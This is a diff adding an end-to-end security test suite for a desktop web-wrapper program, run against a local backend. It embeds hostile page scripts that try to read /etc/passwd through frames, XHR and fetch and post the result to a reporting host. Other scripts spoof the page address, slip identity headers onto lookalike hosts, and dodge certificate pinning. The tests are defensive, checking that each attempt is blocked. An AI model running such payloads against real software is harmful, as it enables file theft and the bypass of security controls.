@@ -1,0 +1,312 @@
+#!/usr/bin/env python3
+"""What a hostile page can reach, tried with the program itself: tovrelapp
+against the reference backend on port 443, third-party hosts (127.0.0.1,
+the video-sharing host) trusted by the engine through an NSS database in the
+run's own HOME. Each case is one way a page could get past the program's
+rules; it reports what it got to the backend, and the backend's request log
+says what left the machine. Exits 77 (skipped) when port 443 cannot be had."""
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import unittest
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+sys.path.insert(0, os.path.join(HERE, "..", "print"))
+from harness import Backend, Display, SOURCE_DIR, wait_until, WAIT  # noqa: E402
+
+PROGRAM = os.environ.get("PELLARO_PROGRAM", "")
+CLI = os.environ.get("PELLARO_CLI", "")
+SKIP = 77
+TEST_ROOT = os.path.join(SOURCE_DIR, "tests", "backend", "certs", "test-root.pem")
+IDENTITY = ("X-Device-Id", "X-Hardware-Id")
+THIRD = "https://127.0.0.1"
+STRICT = "strict.tovrel.localhost"
+
+# Posts what a page saw to the backend (a third-party host, no CORS with web
+# security off).
+REPORT_JS = """
+function report(tag, data){data=data||{};data.tag=tag;
+fetch('https://127.0.0.1/report',{method:'POST',body:JSON.stringify(data)}).catch(function(){});}
+"""
+
+
+def page(body_script, body=""):
+    return ("<!doctype html><html><head><meta charset='utf-8'><title>Security case</title></head><body>%s"
+            "<script>%s%s</script></body></html>" % (body, REPORT_JS, body_script))
+
+
+def header(entry, name):
+    for key, value in entry["headers"]:
+        if key.lower() == name.lower():
+            return value
+    return None
+
+
+def port_443_free():
+    probe = socket.socket()
+    try:
+        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        probe.bind(("127.0.0.1", 443))
+        return True
+    except OSError:
+        return False
+    finally:
+        probe.close()
+
+
+def trusting_home(root):
+    """A HOME whose NSS database trusts the backend's test root, so the engine
+    loads third-party test hosts the way it loads real ones."""
+    home = os.path.join(root, "home")
+    nssdb = os.path.join(home, ".pki", "nssdb")
+    os.makedirs(nssdb)
+    subprocess.run(["certutil", "-d", "sql:" + nssdb, "-N", "--empty-password"], check=True, capture_output=True)
+    subprocess.run(["certutil", "-d", "sql:" + nssdb, "-A", "-t", "C,,", "-n", "pellaro-test-root", "-i",
+                    TEST_ROOT], check=True, capture_output=True)
+    return home
+
+
+class Program:
+    def __init__(self, display, root, home, args, env=None):
+        folder = tempfile.mkdtemp(prefix="run-", dir=root)
+        # The program's own client trusts the test root too, as it would a
+        # third party's real certificate.
+        self.env = dict(os.environ, DISPLAY=display.name, HOME=home, QT_QPA_PLATFORM="xcb",
+                        PELLARO_TEST_CA_FILE=TEST_ROOT,
+                        XDG_DATA_HOME=os.path.join(folder, "data"), XDG_CACHE_HOME=os.path.join(folder, "cache"),
+                        XDG_CONFIG_HOME=os.path.join(folder, "config"), XDG_RUNTIME_DIR=os.path.join(folder, "run"))
+        self.env.update(env or {})
+        os.makedirs(self.env["XDG_RUNTIME_DIR"], mode=0o700)
+        self.path = os.path.join(folder, "program.log")
+        self.log = open(self.path, "wb")
+        self.proc = subprocess.Popen([PROGRAM] + args, env=self.env, stdin=subprocess.DEVNULL,
+                                     stdout=subprocess.DEVNULL, stderr=self.log)
+
+    def text(self):
+        with open(self.path, "rb") as f:
+            return f.read().decode("utf-8", "replace")
+
+    def stop(self):
+        if self.proc.poll() is None:
+            self.proc.terminate()
+            try:
+                self.proc.wait(15)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait()
+        self.log.close()
+
+
+class SecurityEndToEnd(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.root = tempfile.mkdtemp(prefix="pellaro-security-e2e-")
+        cls.home = trusting_home(cls.root)
+        cls.backend = Backend(cls.root, port=443)
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.backend.stop()
+        shutil.rmtree(cls.root, ignore_errors=True)
+
+    def setUp(self):
+        self.backend.control("reset")
+        self.log_start = len(self.backend.control("log"))
+        self.program = None
+        self.display = Display()  # one per case: a lost display fails one case only
+
+    def tearDown(self):
+        if self.program:
+            self.program.stop()
+        self.display.stop()
+
+    def start(self, *args, env=None):
+        self.program = Program(self.display, self.root, self.home, list(args), env)
+
+    def requests(self):
+        """Requests of this case only."""
+        log = self.backend.control("log")[self.log_start:]
+        return [e for e in log if e.get("event") == "request"]
+
+    def report(self, tag):
+        """The first report of this case with the tag, waited for."""
+        def found():
+            for e in self.requests():
+                if e["path"] == "/report" and e.get("body"):
+                    try:
+                        data = json.loads(e["body"])
+                    except ValueError:
+                        continue
+                    if data.get("tag") == tag:
+                        return data
+            return None
+        data = wait_until(found, WAIT * 2)
+        self.assertIsNotNone(data, "no report %r; requests %s; program log:\n%s" % (
+            tag, [(r["host"], r["path"]) for r in self.requests()], self.program.text()[-3000:]))
+        return data
+
+    def link(self, content_id):
+        return subprocess.run([CLI, "link", "seal", "key-1", content_id, "https://www.tovrel.localhost"],
+                              capture_output=True, text=True, check=True).stdout.strip()
+
+    # 1. Local files: a third-party frame of the home page frames and fetches
+    # /etc/passwd and reads what it got.
+    def test_file_reading_frame_reports_nothing(self):
+        self.backend.page("/sec/third.html", page("""
+var out={frame:'',xhr:'',fetch:''};
+var f=document.createElement('iframe');f.src='file:///etc/passwd';document.body.appendChild(f);
+function readFrame(){try{var d=f.contentDocument;if(d&&d.body)out.frame=d.body.innerText||'';}
+catch(e){out.frame='error '+e;}}
+f.onload=readFrame;
+try{var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd');
+x.onload=function(){out.xhr=x.responseText||'';};x.onerror=function(){out.xhr='error';};x.send();}
+catch(e){out.xhr='error '+e;}
+fetch('file:///etc/passwd').then(function(r){return r.text();}).then(function(t){out.fetch=t;},
+function(e){out.fetch='error '+e;});
+setTimeout(function(){readFrame();report('file',out);},5000);
+"""))
+        self.backend.page("/", page("report('home',{});", "<iframe src='%s/sec/third.html'></iframe>" % THIRD))
+        self.start()
+        self.report("home")
+        seen = self.report("file")
+        for way in ("frame", "xhr", "fetch"):
+            self.assertNotIn("root:", seen[way], way)
+        self.assertIn("Navigation refused: scheme file", self.program.text())
+
+    # 2. The print path: a page rewrites its address to a third-party PDF and
+    # asks to print; the picker gets a printer, so the job really starts. The
+    # program must neither fetch the faked address nor send the secret.
+    def test_pushstate_then_print_sends_no_secret_to_the_faked_host(self):
+        from private_cups import JobListener, PrivateCups
+        cups, listener = PrivateCups(), JobListener()
+        self.addCleanup(listener.close)
+        self.addCleanup(cups.stop)
+        cups.start()
+        cups.add_printer("Office", "socket://127.0.0.1:%d" % listener.port)
+        cups.run("lpadmin", "-d", "Office")
+        self.backend.page("/", page("""
+try{history.pushState({},'','https://127.0.0.1/x.pdf');}catch(e){}
+report('pushed',{address:location.href});
+setTimeout(function(){window.chrome.webview.postMessage('requestPrint');},1000);
+"""))
+        self.start(env={"CUPS_SERVER": cups.server})
+        pushed = self.report("pushed")
+        self.assertEqual(pushed["address"], "https://127.0.0.1/x.pdf")  # the page did fake its address
+
+        def picker():
+            found = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", "^Select Printer$"],
+                                   env=self.program.env, capture_output=True, text=True, timeout=30).stdout.split()
+            return found[-1] if found else None
+        wid = wait_until(picker, WAIT * 2)
+        self.assertTrue(wid, "the printer picker did not open:\n" + self.program.text()[-3000:])
+        subprocess.run(["xdotool", "windowfocus", "--sync", wid], env=self.program.env, timeout=30)
+        subprocess.run(["xdotool", "key", "--clearmodifiers", "--window", "0", "Return"], env=self.program.env,
+                       timeout=30)
+        self.assertTrue(wait_until(lambda: "printResult: " in self.program.text(), WAIT * 2),
+                        self.program.text()[-3000:])
+        faked = [r for r in self.requests() if r["path"] == "/x.pdf"]
+        self.assertEqual(faked, [], "the faked address was fetched")
+        # The secret stays with the backend that issued it.
+        secrets = [(r["host"], r["path"]) for r in self.requests()
+                   if header(r, "X-Secret") is not None and not r["host"].endswith("tovrel.localhost")]
+        self.assertEqual(secrets, [])
+
+    # 3. Identity by host: third-party addresses that only mention the academy.
+    def test_no_identity_for_third_party_hosts_that_mention_the_academy(self):
+        targets = ["%s/echo?u=tovrel.localhost" % THIRD,
+                   "https://vidshare.localhost/p/www.tovrel.localhost/x",
+                   "https://www.vidshare.localhost/embed/abc123?origin=https%3A%2F%2Fapi.tovrel.localhost"]
+        self.backend.page("/", page("""
+var targets=%s;
+Promise.all(targets.map(function(t){return fetch(t).then(function(r){return r.status;},
+function(e){return 'error '+e;});})).then(function(v){report('sent',{statuses:v});});
+""" % json.dumps(targets)))
+        self.start()
+        sent = self.report("sent")
+        self.assertNotIn("error", json.dumps(sent["statuses"]))
+        checked = 0
+        for r in self.requests():
+            if r["host"] in ("127.0.0.1", "vidshare.localhost", "www.vidshare.localhost") and \
+                    ("tovrel.localhost" in r["path"]):
+                checked += 1
+                for name in IDENTITY:
+                    self.assertIsNone(header(r, name), "%s on %s%s" % (name, r["host"], r["path"]))
+        self.assertEqual(checked, 3, [(r["host"], r["path"]) for r in self.requests()])
+        # The academy's own host still gets them.
+        home = [r for r in self.requests()
+                if r["host"] == "www.tovrel.localhost" and r["path"] == "/" and r["method"] == "GET"]
+        self.assertTrue(home and header(home[0], IDENTITY[0]), "the home page lost its identity headers")
+
+    def navigation_is_cancelled(self, content_id, page_path, target, landing_path):
+        self.backend.page(page_path, page("""
+report('ready',{});
+setTimeout(function(){location.href=%s;},500);
+setTimeout(function(){report('stayed',{address:location.href});},6000);
+""" % json.dumps(target)))
+        self.start(self.link(content_id))
+        self.report("ready")
+        self.report("stayed")
+        landed = [(r["host"], r["path"]) for r in self.requests() if r["path"].startswith(landing_path)]
+        self.assertEqual(landed, [])
+
+    # 4. User info that names the academy in front of another host.
+    def test_user_info_navigation_is_cancelled(self):
+        self.navigation_is_cancelled("report-1", "/content/report.html",
+                                     "https://www.tovrel.localhost:x@127.0.0.1/land", "/land")
+
+    # 5. The short-link marker in the path of another host, from the video page.
+    def test_marker_in_path_navigation_is_cancelled(self):
+        self.navigation_is_cancelled("vidshare-1", "/embed/abc123",
+                                     "https://127.0.0.1/p/vid.localhost/land", "/p/vid.localhost/land")
+
+    def blocked_with_the_notice(self, script):
+        """The request is refused before it leaves, and the user gets the
+        intercepted-connection notice for the host."""
+        self.backend.control("answers", {"pins": "strict"})  # the strict host's pins never match
+        self.backend.page("/", page(script))
+        self.start()
+        notice = "Diagnostic dialog: Network Connection Intercepted"
+        self.assertTrue(wait_until(lambda: notice in self.program.text() and
+                                   "code SSL_%s" % STRICT in self.program.text(), WAIT * 2),
+                        self.program.text()[-3000:])
+        reached = [(r["host"], r["path"]) for r in self.requests() if r["host"].rstrip(".").startswith(STRICT)]
+        self.assertEqual(reached, [])
+
+    # 6a. A secure web socket to a host whose pins fail.
+    def test_wss_to_a_host_with_failing_pins_is_blocked(self):
+        self.blocked_with_the_notice("""
+var ws=new WebSocket('wss://%s/socket');
+var done=false;function end(){if(!done){done=true;report('tried',{});}}
+ws.onerror=end;ws.onclose=end;ws.onopen=end;setTimeout(end,8000);
+""" % STRICT)
+
+    # 6b. The same host written with a trailing dot.
+    def test_trailing_dot_to_a_host_with_failing_pins_is_blocked(self):
+        self.blocked_with_the_notice("""
+fetch('https://%s./x').then(function(r){report('tried',{status:r.status});},
+function(e){report('tried',{error:''+e});});
+""" % STRICT)
+
+
+if __name__ == "__main__":
+    if not PROGRAM or not CLI:
+        print("PELLARO_PROGRAM and PELLARO_CLI are required")
+        sys.exit(1)
+    if not shutil.which("certutil"):
+        print("certutil (libnss3-tools) is missing: run scripts/install-deps.sh")
+        sys.exit(1)
+    if not port_443_free():
+        print("skipped: port 443 is taken")
+        sys.exit(SKIP)
+    try:
+        result = unittest.main(exit=False).result
+    except RuntimeError as error:  # the backend could not take the port after all
+        print("skipped:", error)
+        sys.exit(SKIP)
+    sys.exit(0 if result.wasSuccessful() else 1)
